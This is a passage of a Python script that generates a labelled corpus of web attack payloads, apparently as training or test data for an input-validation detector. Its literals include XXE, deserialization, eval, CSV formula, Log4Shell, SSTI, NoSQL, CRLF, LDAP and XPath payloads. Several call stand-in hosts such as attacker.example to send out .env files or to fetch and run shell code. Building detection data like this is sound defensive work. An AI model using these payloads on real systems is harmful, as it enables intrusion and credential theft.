    ("gpx_upload-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY r SYSTEM \"file:///etc/passwd\">]>\n<gpx version=\"1.1\"><trk><name>&r;</name></trk></gpx>"),
    ("gpx_upload-xxe_ssrf", "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>\n<gpx><wpt lat=\"0\" lon=\"0\"><name>&m;</name></wpt></gpx>"),
    ("tcx_upload-xxe_param_oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE TrainingCenterDatabase [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]>\n<TrainingCenterDatabase/>"),
    ("tcx_upload-xxe_php_filter", "<!DOCTYPE Activities [<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><Activities><Notes>&x;</Notes></Activities>"),
    ("gpx_upload-xinclude", "<trk xmlns:xi=\"http://www.w3.org/2001/XInclude\"><name><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></name></trk>"),
    ("gpx_upload-billion_laughs", "<!DOCTYPE gpx [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><gpx><name>&d;</name></gpx>"),
    ("gpx_upload-xslt_exec", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\"/></xsl:template></xsl:stylesheet>"),
    ("settings_json-proto_pollution", "{\"units\":\"metric\",\"__proto__\":{\"isAdmin\":true}}"),
    ("settings_json-proto_pollution", "{\"zones\":{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}}"),
    ("settings_query-proto_pollution", "ftp=265&__proto__[shell]=/proc/self/exe&__proto__[NODE_OPTIONS]=--require=/proc/self/environ"),
    ("settings_query-proto_pollution", "units=metric&constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("sync_state-pickle_b64", "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAlpZCA+IC90bXAveJSFlFKULg=="),
    ("sync_state-pickle_raw", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("sync_state-yaml_python", "!!python/object/apply:os.system ['id > /tmp/y']"),
    ("workout_yaml-yaml_python", "name: 2x20\nsteps: !!python/object/new:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("workout_yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("device_blob-java_serialized", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHA="),
    ("club_import-php_unserialize", "O:8:\"RideFile\":1:{s:4:\"path\";s:20:\"/var/www/.htpasswd\";}"),
    ("club_import-dotnet_typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("club_import-jackson_polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}]"),
    ("club_import-fastjson_type", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.61:1099/e\",\"autoCommit\":true}"),
    ("zone_formula-python_eval", "__import__('os').system('id')"),
    ("zone_formula-python_eval", "0.95*avg20 if __import__('subprocess').call(['sh','-c','curl attacker.example|sh']) else 0"),
    ("zone_formula-node_eval", "require('child_process').exec('curl -d @/app/.env attacker.example')"),
    ("zone_formula-node_function", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("zone_formula-php_eval", "265*0.95;system('id');"),
    ("zone_formula-ruby_eval", "265 * 0.95; `id`"),
    ("export_csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for results\")"),
    ("export_csv-formula_dde", "=cmd|' /C calc'!A0"),
    ("export_csv-formula_plus", "+SUM(1+1)*cmd|' /C powershell -w hidden IEX(New-Object Net.WebClient).DownloadString(\"http://203.0.113.8/a\")'!A0"),
    ("export_csv-formula_at", "@SUM(1+9)*cmd|'/c notepad'!A1"),
    ("export_csv-formula_webservice", "=WEBSERVICE(\"https://attacker.example/l?\"&A1)"),
    ("export_csv-formula_importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",B2:B9),\"//a\")"),
    ("ride_title-jinja_ssti+urlenc", "%7B%7B%20config.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%20%7D%7D"),
    ("sync_log-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("settings_json-proto_pollution+unicode_escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}"),
    ("plain-jinja_ssti", "{{7*'7'}}{{ lipsum.__globals__['os'].popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/x}"),
    ("plain-xxe", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
    ("plain-csv_formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-proto_pollution", "{\"__proto__\":{\"polluted\":1}}"),
    ("plain-freemarker_probe", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("plain-yaml_python", "!!python/object/apply:os.system ['id']"),
]

NOSQLI = [
    ("login_json-ne_operator", "{\"email\": \"coach@example.org\", \"password\": {\"$ne\": null}}"),
    ("login_json-gt_operator", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login_json-regex", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^a\"}}"),
    ("login_query-bracket_ne", "username=admin&password[$ne]=x"),
    ("login_query-bracket_regex", "email[$regex]=.*&password[$exists]=true"),
    ("segment_search-where_js", "{\"$where\": \"this.kom_time < 600 || sleep(5000)\"}"),
    ("segment_search-where_js", "box hill'; return true; var x='"),
    ("segment_search-where_string", "'; while(true){}; '"),
    ("leaderboard_filter-in_operator", "{\"athlete\": {\"$in\": [\"admin\", \"root\", \"coach\"]}, \"private\": {\"$ne\": true}}"),
    ("leaderboard_filter-or_operator", "{\"$or\": [{\"visibility\": \"public\"}, {\"visibility\": {\"$exists\": true}}]}"),
    ("ride_query-nin_operator", "club[$nin][]=nonexistent&private[$ne]=false"),
    ("ride_query-function_where", "{\"$where\": \"function(){ return this.password_hash.match(/^\\\\$2b/) != null; }\"}"),
    ("aggregate-lookup_stage", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"athlete_id\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("aggregate-expr_accumulator", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("couch_selector-regex", "{\"selector\": {\"type\": \"token\", \"value\": {\"$regex\": \".\"}}}"),
    ("gear_filter-elemmatch", "{\"components\": {\"$elemMatch\": {\"owner\": {\"$ne\": \"me\"}}}}"),
    ("login_query-bracket_ne+urlenc", "username=admin&password%5B%24ne%5D=1"),
    ("login_json-gt_operator+unicode_escape", "{\"username\": \"admin\", \"password\": {\"\\u0024gt\": \"\"}}"),
    ("plain-ne_operator", "{\"$ne\": null}"),
    ("plain-where", "{\"$where\": \"1==1\"}"),
    ("plain-gt_operator", "{\"$gt\": \"\"}"),
]

CRLF = [
    ("ride_title-log_forge", "Morning Ride\n2024-06-01T07:00:00Z INFO user=admin action=login result=success ip=10.0.0.1"),
    ("ride_title-log_forge", "Recovery spin\r\n[INFO] sync ok athlete_id=1 role=admin"),
    ("device_name-log_forge", "Edge 530\n[WARN] audit disabled by admin"),
    ("sync_error-log_forge_json", "timeout\"}\n{\"level\":\"info\",\"msg\":\"password reset\",\"user\":\"admin\",\"ok\":true"),
    ("route_filename-header_injection", "ride.gpx\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("route_filename-header_disposition", "ride.gpx\"\r\nSet-Cookie: session=fake-attacker-sess; Path=/"),
    ("redirect_param-response_split", "/dashboard\r\nLocation: https://attacker.example/login"),
    ("redirect_param-response_split", "/rides%0d%0aSet-Cookie:%20admin=1%0d%0a"),
    ("redirect_param-response_split+double_urlenc", "/club%250d%250aX-Injected:%2520yes"),
    ("redirect_param-response_split+utf8_crlf_homoglyph", "/segments/4711%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("lang_cookie-header_injection", "en-GB\r\nX-Forwarded-For: 127.0.0.1"),
    ("club_invite-mail_header", "rider@example.org\r\nBcc: everyone@attacker.example"),
    ("club_invite-mail_header", "Sam <sam@example.org>\nCc: list@attacker.example\nSubject: Kit order payment link"),
    ("event_reminder-mail_body", "Saturday ride\r\n\r\nPlease re-enter your card at https://attacker.example/pay\r\n.\r\nMAIL FROM:<admin@example.org>"),
    ("contact_form-smtp_injection", "Lost Garmin mount\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nphish\r\n."),
    ("webhook_header-header_injection", "token-fake-1234\r\nX-Admin: true"),
    ("export_filename-response_split+urlenc", "rides.csv%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
    ("ride_description-log_ansi", "Nice ride \u001b[2J\u001b[1;31mSYSTEM COMPROMISED\u001b[0m"),
    ("segment_search-log_forge_lf", "box hill%0a127.0.0.1 - admin [01/Jun/2024:07:00:00 +0000] \"GET /admin HTTP/1.1\" 200"),
    ("plain-header_split", "x\r\nSet-Cookie: pwn=1"),
    ("plain-log_forge", "ok\nERROR admin password changed"),
    ("plain-crlf_header", "\r\nX-Injected: 1"),
    ("plain-header_split+urlenc", "%0d%0aLocation:%20https://attacker.example"),
]

LDAP_XPATH = [
    ("club_member_lookup-ldap_wildcard", "*"),
    ("club_member_lookup-ldap_or_inject", "jsilva)(|(uid=*)"),
    ("club_member_lookup-ldap_and_bypass", "admin)(&)"),
    ("club_member_lookup-ldap_attr_probe", "*)(userPassword=*"),
    ("club_member_lookup-ldap_blind", "coach*)(description=a*"),
    ("coach_login-ldap_auth_bypass", "*)(uid=*))(|(uid=*"),
    ("coach_login-ldap_null_terminate", "admin)(\u0000"),
    ("club_group-ldap_objectclass", "riders)(objectClass=*))(&(cn=x"),
    ("club_member_lookup-ldap_or_inject+hex_escape", "\\2a)(\\7c(cn=\\2a)"),
    ("gpx_xpath-quote_or", "Alpe' or '1'='1"),
    ("gpx_xpath-union_node", "Stelvio'] | //user/password | //a['"),
    ("gpx_xpath-count_blind", "x' or count(//athlete[role='admin'])>0 or 'a'='b"),
    ("gpx_xpath-substring_blind", "x' or substring(name(/*[1]),1,1)='g' or 'a'='b"),
    ("segment_xpath-string_length", "Box Hill' and string-length(//config/api_key)>10 and '1'='1"),
    ("segment_xpath-doc_func", "x' or doc('http://attacker.example/'||//secret)/x or '"),
    ("coach_login-ldap_password_wildcard", "ellie)(userPassword=*)"),
    ("gpx_xpath-attribute_or", "46.5287\" or @lat!=\"0"),
    ("plain-ldap_wildcard_or", "*)(|(objectClass=*)"),
    ("plain-xpath_or", "' or 1=1 or ''='"),
]

# --- small templates over hand-written pools (the rest are literals above) ---
SEG_WORDS = ["box hill", "col du galibier", "angliru", "koppenberg", "mur de huy", "stelvio", "cat's back"]
SQL_TAILS = ["' OR 'a'='a", "' UNION SELECT email, api_token FROM athletes-- -", "' AND SLEEP(5)-- -",
             "'; DROP TABLE kudos;--", "' AND 1=(SELECT COUNT(*) FROM admins)-- "]
XSS_TAILS = ["<img src=x onerror=alert(1)>", "<svg onload=alert(document.cookie)>", "\"><script>alert(1)</script>",
             "<details open ontoggle=alert(1)>", "<iframe src=javascript:alert(1)>"]
XSS_PREFIXES = ["Morning Ride", "Z2 140-150 bpm", "FTP test -- 265 W", "Club ride: Saturday", "TT practice 40k"]
CMD_FILES = ["ride.gpx", "Alpe_dHuez.tcx", "2024-05-11.fit", "winter_loop.gpx", "Flanders.tcx"]
CMD_TAILS = ["; id", "| cat /etc/passwd", "$(sleep 6)", "`whoami`", "&& curl attacker.example|sh"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history", "app/.env"]
SSRF_HOSTS = ["127.0.0.1", "169.254.169.254", "10.0.0.7", "localhost", "192.168.0.10"]
SSRF_PATHS = ["/latest/meta-data/", "/admin", "/_cluster/health", "/v1/secrets", "/server-status"]
SSTI_WRAPS = ["{{ %s }}", "${%s}", "<%%= %s %%>", "#{%s}"]
SSTI_BODIES = ["7*7", "self.__init__.__globals__", "T(java.lang.System).getenv()", "File.read('/etc/passwd')"]


def t_sqli(rng):
    return f"segment_search-template", rng.choice(SEG_WORDS) + rng.choice(SQL_TAILS)


def t_xss(rng):
    return "ride_title-template", rng.choice(XSS_PREFIXES) + " " + rng.choice(XSS_TAILS)


def t_cmdi(rng):
    return "gpx_convert-template", rng.choice(CMD_FILES) + rng.choice(CMD_TAILS)


def t_trav(rng):
    depth = rng.randint(3, 8)
    sep = rng.choice(["../", "..%2f", "..\\"])
    enc = "+urlenc" if "%" in sep else ""
    return f"route_download-template{enc}", sep * depth + rng.choice(TRAV_TARGETS)


def t_ssrf(rng):
    port = rng.choice(["", ":8080", ":9000", ":2379", ":80"])
    return "route_import_url-template", f"http://{rng.choice(SSRF_HOSTS)}{port}{rng.choice(SSRF_PATHS)}"


def t_code(rng):
    return "ride_title-template_ssti", rng.choice(XSS_PREFIXES) + " " + (rng.choice(SSTI_WRAPS) % rng.choice(SSTI_BODIES))


def t_nosqli(rng):
    op = rng.choice(["$ne", "$gt", "$regex", "$exists"])
    val = {"$ne": "null", "$gt": "\"\"", "$regex": "\".*\"", "$exists": "true"}[op]
    return "login_json-template", "{\"username\": \"%s\", \"password\": {\"%s\": %s}}" % (
        rng.choice(["admin", "coach", "root", "clubsec"]), op, val)


def t_crlf(rng):
    hdr = rng.choice(["Set-Cookie: sid=fake-0000", "Location: https://attacker.example/", "X-Role: admin"])
    base = rng.choice(["/rides", "/segments/4711", "/club/events"])
    if rng.random() < 0.5:
        return "redirect_param-template+urlenc", base + quote("\r\n" + hdr, safe="")
    return "redirect_param-template", base + "\r\n" + hdr


def t_ldap(rng):
    name = rng.choice(["jsilva", "amuller", "kobrien", "priya"])
    return "club_member_lookup-template", f"{name})(|(" + rng.choice(["uid=*", "cn=*", "mail=*", "objectClass=*"]) + ")"


PLAN = [
    ("sqli", SQLI, t_sqli, 10),
    ("xss", XSS, t_xss, 10),
    ("cmdi", CMDI, t_cmdi, 10),
    ("traversal", TRAVERSAL, t_trav, 8),
    ("ssrf", SSRF, t_ssrf, 8),
    ("code", CODE, t_code, 6),
    ("nosqli", NOSQLI, t_nosqli, 3),
    ("crlf", CRLF, t_crlf, 5),
    ("ldap-xpath", LDAP_XPATH, t_ldap, 3),
]


def main():
    rng = random.Random(SEED)
    benign_path = Path(__file__).with_name("benign.jsonl")
    benign_vals = set()
    if benign_path.exists():
        for line in benign_path.read_text(encoding="utf-8").splitlines():
            benign_vals.add(json.loads(line)["value"])
    rows = []
    seen = set()
    stats = []
    for cat, literals, tmpl, n_tmpl in PLAN:
        for cls, v in literals:
            if v in seen or v in benign_vals:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
        made = 0
        tries = 0
        while made < n_tmpl:
            tries += 1
            if tries > 5000:
                raise SystemExit(f"cannot fill {cat}")
            cls, v = tmpl(rng)
            if v in seen or v in benign_vals:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats.append((cat, len(literals) + made, len(literals)))
    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
            fh.write(json.dumps({"id": f"ha96-{i:05d}", "category": cat, "class": cls, "label": "attack",
                                 "value": v}, ensure_ascii=False) + "\n")
    for cat, n, lit in stats:
        print(f"{cat:12s} {n:4d}  literals {lit}")
    total_lit = sum(s[2] for s in stats)
    print(f"total {len(rows)}  literals {total_lit} ({100.0 * total_lit / len(rows):.1f}%)")


if __name__ == "__main__":
    main()
